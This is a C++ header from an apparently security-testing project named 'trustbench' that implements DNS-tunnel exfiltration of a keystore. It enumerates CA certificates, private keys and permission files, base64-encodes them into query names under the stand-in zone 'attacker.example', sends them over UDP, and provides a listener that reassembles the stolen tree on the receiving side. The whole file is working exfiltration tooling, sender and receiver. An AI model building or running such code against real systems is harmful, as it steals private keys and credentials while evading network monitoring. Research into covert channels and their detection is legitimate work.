#pragma once

// Moves a keystore tree across a DNS covert channel and rebuilds it on the
// receiving side.
//
// Per file, the sender emits one header query naming the file's relative
// path and chunk count:
//
//   <filetag>.<b64(relative_path) split into labels>.hdr<total>.<session>.<zone>
//
// followed by the data queries described in covert_dns.hpp. The receiver
// tolerates any arrival order, duplicates, and interleaved files; it marks a
// transfer corrupt on the first contradictory byte rather than guessing.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <map>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <thread>
#include <utility>
#include <variant>
#include <vector>

#include "trustbench/covert_dns.hpp"
#include "trustbench/detail/base64.hpp"
#include "trustbench/errors.hpp"
#include "trustbench/keystore.hpp"

namespace trustbench::exfil {

// ---------------------------------------------------------------------------
// Artifact enumeration and tag assignment.

struct ArtifactEntry {
  dns::FileTag tag;
  std::string relative_path;
  std::vector<std::uint8_t> content;
};

// Tags are <kind prefix><ordinal>, the ordinal counting instances of that
// kind in enclave-name order: ca0, cert0, key0, perm0, gov0, cert1, ...
// Receivers treat tags as opaque ids; paths travel in the header query.
inline std::vector<ArtifactEntry> enumerate_artifacts(const keystore::KeystoreTree& tree) {
  std::vector<ArtifactEntry> out;
  out.reserve(tree.artifact_count());
  out.push_back(ArtifactEntry{dns::FileTag("ca0"), tree.ca().relative_path,
                              tree.ca().content});
  for (std::size_t i = 0; i < tree.enclaves().size(); ++i) {
    const keystore::Enclave& e = tree.enclaves()[i];
    for (const keystore::CredentialArtifact& a : e.artifacts()) {
      const std::string tag =
          std::string(keystore::kind_tag_prefix(a.kind)) + std::to_string(i);
      out.push_back(ArtifactEntry{dns::FileTag(tag), a.relative_path, a.content});
    }
  }
  return out;
}

// ---------------------------------------------------------------------------
// Header query names.

inline constexpr std::string_view kHeaderMarkerPrefix = "hdr";

inline std::string build_header_name(const dns::FileTag& tag,
                                     std::string_view relative_path,
                                     std::size_t total_chunks,
                                     const dns::SessionToken& session,
                                     std::string_view zone) {
  dns::validate_zone(zone);
  keystore::validate_relative_path(relative_path);
  if (total_chunks == 0) throw ValidationError("header with zero chunks");
  const std::string encoded = trustbench::detail::base64_encode(relative_path);
  std::string name = tag.str();
  for (std::size_t i = 0; i < encoded.size(); i += dns::kMaxLabelLength) {
    name += '.';
    name += encoded.substr(i, dns::kMaxLabelLength);
  }
  name += '.';
  name += std::string(kHeaderMarkerPrefix) + std::to_string(total_chunks);
  name += '.';
  name += session.str();
  name += '.';
  name += zone;
  dns::validate_name_length(name);
  return name;
}

// ---------------------------------------------------------------------------
// Classification of observed names.

struct DataChunkRecord {
  dns::FileTag tag;
  dns::SessionToken session;
  std::uint64_t chunk_index = 0;
  std::string chunk_data;
};

struct HeaderRecord {
  dns::FileTag tag;
  dns::SessionToken session;
  std::uint64_t total_chunks = 0;
  std::string relative_path;
};

struct NotOurs {};

using ClassifiedName = std::variant<NotOurs, DataChunkRecord, HeaderRecord>;

// Decide what an observed query name is. Names outside the zone classify as
// NotOurs; names inside the zone that fit neither grammar throw ParseError.
inline ClassifiedName classify_query_name(std::string_view name, std::string_view zone) {
  dns::validate_zone(zone);
  const std::string suffix = "." + std::string(zone);
  if (name.size() <= suffix.size() || !name.ends_with(suffix)) {
    return NotOurs{};
  }
  const auto labels = dns::split_labels(name.substr(0, name.size() - suffix.size()));
  const std::size_t n = labels.size();

  // Header form: tag . path-b64... . hdr<total> . session
  if (n >= 4 && labels[n - 2].starts_with(kHeaderMarkerPrefix)) {
    const std::string_view digits = labels[n - 2].substr(kHeaderMarkerPrefix.size());
    const bool digits_ok =
        !digits.empty() && digits.size() <= 9 &&
        std::all_of(digits.begin(), digits.end(),
                    [](char c) { return c >= '0' && c <= '9'; });
    if (digits_ok) {
      const std::string_view tag_label = labels[0];
      const std::string_view session_label = labels[n - 1];
      if (tag_label.empty() || tag_label.size() > 8 || !dns::is_lower_alnum(tag_label)) {
        throw ParseError("bad file tag '" + std::string(tag_label) + "'");
      }
      if (session_label.size() < 2 || session_label.size() > 8 ||
          !dns::is_lower_alnum(session_label)) {
        throw ParseError("bad session token '" + std::string(session_label) + "'");
      }
      std::string encoded;
      for (std::size_t i = 1; i + 2 < n; ++i) {
        if (labels[i].empty() || labels[i].size() > dns::kMaxLabelLength ||
            !std::all_of(labels[i].begin(), labels[i].end(), dns::is_base64_char)) {
          throw ParseError("bad path label in '" + std::string(name) + "'");
        }
        encoded += labels[i];
      }
      const std::uint64_t total = std::stoull(std::string(digits));
      if (total == 0) throw ParseError("header with zero chunks in '" + std::string(name) + "'");
      std::string path;
      try {
        path = trustbench::detail::base64_decode_text(encoded);
        keystore::validate_relative_path(path);
      } catch (const ValidationError& e) {
        throw ParseError("bad header path in '" + std::string(name) + "': " + e.what());
      }
      return HeaderRecord{dns::FileTag(std::string(tag_label)),
                          dns::SessionToken(std::string(session_label)), total,
                          std::move(path)};
    }
  }

  // Data form is fully handled by the query-name grammar.
  const std::optional<dns::ParsedQueryName> parsed = dns::parse_query_name(name, zone);
  if (!parsed) return NotOurs{};  // unreachable given the suffix check above
  return DataChunkRecord{parsed->tag, parsed->session, parsed->chunk_index,
                         parsed->chunk_data};
}

// ---------------------------------------------------------------------------
// Sending.

struct ExfilConfig {
  std::string listener_ip = "127.0.0.1";
  std::uint16_t listener_port = 53;
  std::string zone = "attacker.example";
  dns::SessionToken session{"a1"};
  std::size_t chunk_size = dns::kDefaultChunkSize;
  std::chrono::milliseconds inter_query_delay{0};
};

// Destination for encoded query datagrams. Swappable so the client logic is
// testable without sockets.
class QuerySink {
 public:
  virtual ~QuerySink() = default;
  virtual void send(std::span<const std::uint8_t> datagram) = 0;
};

class MemorySink final : public QuerySink {
 public:
  void send(std::span<const std::uint8_t> datagram) override {
    datagrams_.emplace_back(datagram.begin(), datagram.end());
  }

  const std::vector<std::vector<std::uint8_t>>& datagrams() const noexcept {
    return datagrams_;
  }

 private:
  std::vector<std::vector<std::uint8_t>> datagrams_;
};

class UdpSink final : public QuerySink {
 public:
  UdpSink(const std::string& ip, std::uint16_t port) {
    fd_ = ::socket(AF_INET, SOCK_DGRAM, 0);
    if (fd_ < 0) throw IoError("socket: " + std::string(std::strerror(errno)));
    std::memset(&dest_, 0, sizeof(dest_));
    dest_.sin_family = AF_INET;
    dest_.sin_port = htons(port);
    if (::inet_pton(AF_INET, ip.c_str(), &dest_.sin_addr) != 1) {
      ::close(fd_);
      throw IoError("bad IPv4 address '" + ip + "'");
    }
  }

  ~UdpSink() override {
    if (fd_ >= 0) ::close(fd_);
  }

  UdpSink(const UdpSink&) = delete;
  UdpSink& operator=(const UdpSink&) = delete;

  void send(std::span<const std::uint8_t> datagram) override {
    const ssize_t n = ::sendto(fd_, datagram.data(), datagram.size(), 0,
                               reinterpret_cast<const sockaddr*>(&dest_), sizeof(dest_));
    if (n < 0 || static_cast<std::size_t>(n) != datagram.size()) {
      throw IoError("sendto: " + std::string(std::strerror(errno)));
    }
  }

 private:
  int fd_ = -1;
  sockaddr_in dest_{};
};

struct TransferReport {
  std::uint64_t files_sent = 0;
  std::uint64_t queries_sent = 0;
};

// Emit the whole tree through `sink`: per file one header query then every
// chunk in index order, files in path order, query ids counting up from 1.
// A sink failure surfaces as TransferError pinned to file and chunk.
inline TransferReport exfiltrate_tree(const keystore::KeystoreTree& tree,
                                      const ExfilConfig& cfg, QuerySink& sink) {
  dns::validate_zone(cfg.zone);
  TransferReport report;
  std::uint16_t next_id = 1;
  const auto send_one = [&](const std::string& qname, const dns::FileTag& tag,
                            std::int64_t chunk_index) {
    dns::DnsQueryMessage msg;
    msg.id = next_id;
    next_id = static_cast<std::uint16_t>(next_id == 0xffff ? 1 : next_id + 1);
    msg.qname = qname;
    msg.qtype = dns::QueryType::a;
    msg.recursion_desired = true;
    const std::vector<std::uint8_t> wire = dns::encode_dns_query(msg);
    try {
      sink.send(std::span<const std::uint8_t>(wire.data(), wire.size()));
    } catch (const IoError& e) {
      throw TransferError(std::string("transfer failed: ") + e.what(),
                          cfg.session.str(), tag.str(), chunk_index,
                          report.queries_sent);
    }
    ++report.queries_sent;
    if (cfg.inter_query_delay.count() > 0) {
      std::this_thread::sleep_for(cfg.inter_query_delay);
    }
  };

  for (const ArtifactEntry& entry : enumerate_artifacts(tree)) {
    const dns::ChunkedFile chunked = dns::chunk_file(
        entry.relative_path,
        std::span<const std::uint8_t>(entry.content.data(), entry.content.size()),
        entry.tag, cfg.chunk_size);
    send_one(build_header_name(entry.tag, entry.relative_path, chunked.total_chunks(),
                               cfg.session, cfg.zone),
             entry.tag, -1);
    for (std::size_t i = 0; i < chunked.total_chunks(); ++i) {
      send_one(dns::build_query_name(chunked, i, cfg.session, cfg.zone).render(),
               entry.tag, static_cast<std::int64_t>(i));
    }
    ++report.files_sent;
  }
  return report;
}

// ---------------------------------------------------------------------------
// Reassembly.

enum class TransferStatus { awaiting_header, in_progress, complete, corrupt };

inline std::string_view to_string(TransferStatus s) {
  switch (s) {
    case TransferStatus::awaiting_header: return "awaiting_header";
    case TransferStatus::in_progress: return "in_progress";
    case TransferStatus::complete: return "complete";
    case TransferStatus::corrupt: return "corrupt";
  }
  return "?";
}

enum class IngestEvent {
  chunk_stored,
  chunk_duplicate,
  header_stored,
  header_duplicate,
  conflict,
  not_ours,
  malformed,
};

inline std::string_view to_string(IngestEvent e) {
  switch (e) {
    case IngestEvent::chunk_stored: return "chunk";
    case IngestEvent::chunk_duplicate: return "chunk-dup";
    case IngestEvent::header_stored: return "header";
    case IngestEvent::header_duplicate: return "header-dup";
    case IngestEvent::conflict: return "conflict";
    case IngestEvent::not_ours: return "other";
    case IngestEvent::malformed: return "malformed";
  }
  return "?";
}

struct FileStatus {
  dns::FileTag tag;
  TransferStatus status = TransferStatus::awaiting_header;
  std::uint64_t total_chunks = 0;  // 0 while the header is outstanding
  std::uint64_t received_chunks = 0;
  std::vector<std::uint64_t> missing_indices;
  std::string relative_path;  // empty while the header is outstanding
};

// Accumulates observed queries per (session, file tag). Never throws on
// hostile input: a datagram either advances a transfer, is recorded as a
// duplicate, flags a conflict, or is dismissed.
class ReassemblyState {
 public:
  IngestEvent ingest_wire(std::span<const std::uint8_t> datagram, std::string_view zone) {
    std::string qname;
    try {
      qname = dns::parse_dns_query(datagram).qname;
    } catch (const ParseError&) {
      return IngestEvent::malformed;
    }
    return ingest_name(qname, zone);
  }

  IngestEvent ingest_name(std::string_view qname, std::string_view zone) {
    ClassifiedName classified;
    try {
      classified = classify_query_name(qname, zone);
    } catch (const ParseError&) {
      return IngestEvent::malformed;
    }
    if (std::holds_alternative<NotOurs>(classified)) return IngestEvent::not_ours;
    if (const auto* chunk = std::get_if<DataChunkRecord>(&classified)) {
      return ingest_chunk(*chunk);
    }
    return ingest_header(std::get<HeaderRecord>(classified));
  }

  std::vector<std::string> sessions() const {
    std::vector<std::string> out;
    out.reserve(transfers_.size());
    for (const auto& [session, _] : transfers_) out.push_back(session);
    return out;
  }

  std::vector<FileStatus> status(const dns::SessionToken& session) const {
    std::vector<FileStatus> out;
    const auto it = transfers_.find(session.str());
    if (it == transfers_.end()) return out;
    for (const auto& [tag, t] : it->second) {
      FileStatus fs{dns::FileTag(tag), TransferStatus::awaiting_header, 0, 0, {}, {}};
      fs.received_chunks = t.chunks.size();
      if (t.header) {
        fs.total_chunks = t.header->total_chunks;
        fs.relative_path = t.header->relative_path;
      }
      if (t.corrupt) {
        fs.status = TransferStatus::corrupt;
      } else if (!t.header) {
        fs.status = TransferStatus::awaiting_header;
        // Without a header only interior gaps are known to be missing.
        if (!t.chunks.empty()) {
          const std::uint64_t top = t.chunks.rbegin()->first;
          for (std::uint64_t i = 0; i < top; ++i) {
            if (!t.chunks.count(i)) fs.missing_indices.push_back(i);
          }
        }
      } else {
        for (std::uint64_t i = 0; i < t.header->total_chunks; ++i) {
          if (!t.chunks.count(i)) fs.missing_indices.push_back(i);
        }
        fs.status = fs.missing_indices.empty() ? TransferStatus::complete
                                               : TransferStatus::in_progress;
      }
      out.push_back(std::move(fs));
    }
    return out;
  }

  // Rebuild the keystore for one session under a caller-chosen root name.
  // Every transfer must be complete; any corruption or gap is an error, and
  // the resulting artifact set must form a well-shaped tree.
  keystore::KeystoreTree reconstruct_tree(const dns::SessionToken& session,
                                          std::string_view root_name) const {
    const auto it = transfers_.find(session.str());
    if (it == transfers_.end() || it->second.empty()) {
      throw IncompleteError("session '" + session.str() + "' has no transfers");
    }
    std::map<std::string, std::vector<std::uint8_t>> files;  // path -> content
    for (const auto& [tag, t] : it->second) {
      if (t.corrupt) {
        throw CorruptError("file '" + tag + "' in session '" + session.str() +
                           "' is corrupt: " + t.corrupt_reason);
      }
      if (!t.header) {
        throw IncompleteError("file '" + tag + "' has no header");
      }
      std::string encoded;
      for (std::uint64_t i = 0; i < t.header->total_chunks; ++i) {
        const auto chunk = t.chunks.find(i);
        if (chunk == t.chunks.end()) {
          throw IncompleteError("file '" + tag + "' is missing chunk " +
                                std::to_string(i) + " of " +
                                std::to_string(t.header->total_chunks));
        }
        encoded += chunk->second;
      }
      std::vector<std::uint8_t> content;
      try {
        content = trustbench::detail::base64_decode(encoded);
      } catch (const ValidationError& e) {
        throw CorruptError("file '" + tag + "' does not decode: " + e.what());
      }
      if (!files.emplace(t.header->relative_path, std::move(content)).second) {
        throw StructuralError("two transfers claim path '" + t.header->relative_path + "'");
      }
    }
    return assemble_tree(std::string(root_name), std::move(files));
  }

 private:
  struct Transfer {
    std::optional<HeaderRecord> header;
    std::map<std::uint64_t, std::string> chunks;  // index -> base64 slice
    bool corrupt = false;
    std::string corrupt_reason;
  };

  IngestEvent ingest_chunk(const DataChunkRecord& chunk) {
    Transfer& t = transfers_[chunk.session.str()][chunk.tag.str()];
    const auto existing = t.chunks.find(chunk.chunk_index);
    if (existing != t.chunks.end()) {
      if (existing->second == chunk.chunk_data) return IngestEvent::chunk_duplicate;
      mark_corrupt(t, "chunk " + std::to_string(chunk.chunk_index) +
                          " received with two different payloads");
      return IngestEvent::conflict;
    }
    if (t.header && chunk.chunk_index >= t.header->total_chunks) {
      mark_corrupt(t, "chunk index " + std::to_string(chunk.chunk_index) +
                          " beyond declared total " +
                          std::to_string(t.header->total_chunks));
      return IngestEvent::conflict;
    }
    t.chunks.emplace(chunk.chunk_index, chunk.chunk_data);
    return IngestEvent::chunk_stored;
  }

  IngestEvent ingest_header(const HeaderRecord& header) {
    Transfer& t = transfers_[header.session.str()][header.tag.str()];
    if (t.header) {
      if (t.header->total_chunks == header.total_chunks &&
          t.header->relative_path == header.relative_path) {
        return IngestEvent::header_duplicate;
      }
      mark_corrupt(t, "two conflicting headers");
      return IngestEvent::conflict;
    }
    if (!t.chunks.empty() && t.chunks.rbegin()->first >= header.total_chunks) {
      t.header = header;
      mark_corrupt(t, "stored chunk index " + std::to_string(t.chunks.rbegin()->first) +
                          " beyond declared total " + std::to_string(header.total_chunks));
      return IngestEvent::conflict;
    }
    t.header = header;
    return IngestEvent::header_stored;
  }

  static void mark_corrupt(Transfer& t, std::string reason) {
    if (!t.corrupt) {
      t.corrupt = true;
      t.corrupt_reason = std::move(reason);
    }
  }

  static keystore::KeystoreTree assemble_tree(
      std::string root_name, std::map<std::string, std::vector<std::uint8_t>> files) {
    const auto ca_it = files.find("ca.cert.pem");
    if (ca_it == files.end()) {
      throw StructuralError("reconstructed set has no ca.cert.pem");
    }
    keystore::CredentialArtifact ca{keystore::ArtifactKind::ca_cert, "ca.cert.pem",
                                    std::move(ca_it->second)};
    files.erase(ca_it);

    std::map<std::string, std::vector<keystore::CredentialArtifact>> by_enclave;
    for (auto& [path, content] : files) {
      // Expect enclaves/<name>/<artifact file>.
      std::vector<std::string> parts;
      std::size_t start = 0;
      while (start <= path.size()) {
        const std::size_t slash = path.find('/', start);
        if (slash == std::string::npos) {
          parts.push_back(path.substr(start));
          break;
        }
        parts.push_back(path.substr(start, slash - start));
        start = slash + 1;
      }
      if (parts.size() != 3 || parts[0] != "enclaves") {
        throw StructuralError("unexpected reconstructed path '" + path + "'");
      }
      const std::optional<keystore::ArtifactKind> kind =
          keystore::kind_from_filename(parts[2]);
      if (!kind || *kind == keystore::ArtifactKind::ca_cert) {
        throw StructuralError("unexpected reconstructed path '" + path + "'");
      }
      by_enclave[parts[1]].push_back(
          keystore::CredentialArtifact{*kind, path, std::move(content)});
    }
    if (by_enclave.empty()) {
      throw StructuralError("reconstructed set has no enclaves");
    }
    std::vector<keystore::Enclave> enclaves;
    enclaves.reserve(by_enclave.size());
    for (auto& [name, artifacts] : by_enclave) {
      enclaves.push_back(keystore::Enclave(name, std::move(artifacts)));
    }
    return keystore::KeystoreTree(std::move(root_name), std::move(ca),
                                  std::move(enclaves));
  }

  // session -> file tag -> transfer
  std::map<std::string, std::map<std::string, Transfer>> transfers_;
};

inline IngestEvent ingest_query(ReassemblyState& state,
                                std::span<const std::uint8_t> datagram,
                                std::string_view zone) {
  return state.ingest_wire(datagram, zone);
}

inline std::vector<FileStatus> reassembly_status(const ReassemblyState& state,
                                                 const dns::SessionToken& session) {
  return state.status(session);
}

inline keystore::KeystoreTree reconstruct_tree(const ReassemblyState& state,
                                               const dns::SessionToken& session,
                                               std::string_view root_name) {
  return state.reconstruct_tree(session, root_name);
}

// ---------------------------------------------------------------------------
// Listener.

struct ListenerLogEntry {
  double timestamp = 0;        // unix seconds
  std::string source;          // ip:port of the sender
  std::string qname;           // "-" when the datagram did not parse
  std::string event;           // to_string(IngestEvent)
};

using ListenerLog = std::vector<ListenerLogEntry>;

inline std::string log_line(const ListenerLogEntry& entry) {
  char ts[32];
  std::snprintf(ts, sizeof(ts), "%.6f", entry.timestamp);
  return std::string(ts) + "\t" + entry.source + "\t" + entry.qname + "\t" + entry.event;
}

struct ListenOptions {
  std::chrono::milliseconds idle_timeout{0};  // 0 = no idle timeout
  std::size_t max_packets = 0;                // 0 = unlimited
};

// Blocking UDP listener that feeds a ReassemblyState. Bind with port 0 to
// let the kernel choose; port() reports the actual one.
class Listener {
 public:
  Listener(const std::string& bind_ip, std::uint16_t port, std::string zone)
      : zone_(std::move(zone)) {
    dns::validate_zone(zone_);
    fd_ = ::socket(AF_INET, SOCK_DGRAM, 0);
    if (fd_ < 0) throw IoError("socket: " + std::string(std::strerror(errno)));
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(port);
    if (::inet_pton(AF_INET, bind_ip.c_str(), &addr.sin_addr) != 1) {
      ::close(fd_);
      throw IoError("bad IPv4 address '" + bind_ip + "'");
    }
    if (::bind(fd_, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) != 0) {
      const std::string err = std::strerror(errno);
      ::close(fd_);
      throw IoError("bind " + bind_ip + ":" + std::to_string(port) + ": " + err);
    }
    sockaddr_in bound{};
    socklen_t len = sizeof(bound);
    if (::getsockname(fd_, reinterpret_cast<sockaddr*>(&bound), &len) != 0) {
      const std::string err = std::strerror(errno);
      ::close(fd_);
      throw IoError("getsockname: " + err);
    }
    port_ = ntohs(bound.sin_port);
  }

  ~Listener() {
    if (fd_ >= 0) ::close(fd_);
  }

  Listener(const Listener&) = delete;
  Listener& operator=(const Listener&) = delete;

  std::uint16_t port() const noexcept { return port_; }
  const std::string& zone() const noexcept { return zone_; }

  // Serve datagrams into `state` until `stop` flips, `max_packets` arrive,
  // or no datagram arrives within `idle_timeout`. Returns the per-datagram
  // log in arrival order.
  ListenerLog serve(ReassemblyState& state, const std::atomic<bool>* stop,
                    const ListenOptions& options = {}) {
    ListenerLog log;
    std::size_t packets = 0;
    auto last_packet = std::chrono::steady_clock::now();
    while (true) {
      if (stop && stop->load(std::memory_order_relaxed)) break;
      if (options.max_packets != 0 && packets >= options.max_packets) break;
      if (options.idle_timeout.count() > 0 &&
          std::chrono::steady_clock::now() - last_packet >= options.idle_timeout) {
        break;
      }

      pollfd pfd{fd_, POLLIN, 0};
      const int ready = ::poll(&pfd, 1, 50);
      if (ready < 0) {
        if (errno == EINTR) continue;
        throw IoError("poll: " + std::string(std::strerror(errno)));
      }
      if (ready == 0) continue;

      std::array<std::uint8_t, 4096> buf{};
      sockaddr_in from{};
      socklen_t from_len = sizeof(from);
      const ssize_t n = ::recvfrom(fd_, buf.data(), buf.size(), 0,
                                   reinterpret_cast<sockaddr*>(&from), &from_len);
      if (n < 0) {
        if (errno == EINTR) continue;
        throw IoError("recvfrom: " + std::string(std::strerror(errno)));
      }
      ++packets;
      last_packet = std::chrono::steady_clock::now();

      char ip[INET_ADDRSTRLEN] = {0};
      ::inet_ntop(AF_INET, &from.sin_addr, ip, sizeof(ip));
      const std::string source =
          std::string(ip) + ":" + std::to_string(ntohs(from.sin_port));
      const double now =
          std::chrono::duration<double>(
              std::chrono::system_clock::now().time_since_epoch())
              .count();

      const std::span<const std::uint8_t> datagram(buf.data(),
                                                   static_cast<std::size_t>(n));
      std::string qname = "-";
      try {
        qname = dns::parse_dns_query(datagram).qname;
      } catch (const ParseError&) {
        // leave "-": the event below will say malformed
      }
      const IngestEvent event = state.ingest_wire(datagram, zone_);
      log.push_back(ListenerLogEntry{now, source, qname, std::string(to_string(event))});
    }
    return log;
  }

 private:
  int fd_ = -1;
  std::uint16_t port_ = 0;
  std::string zone_;
};

inline ListenerLog run_listener(const std::string& bind_ip, std::uint16_t port,
                                const std::string& zone, ReassemblyState& state,
                                const std::atomic<bool>* stop,
                                const ListenOptions& options = {}) {
  Listener listener(bind_ip, port, zone);
  return listener.serve(state, stop, options);
}

}  // namespace trustbench::exfil
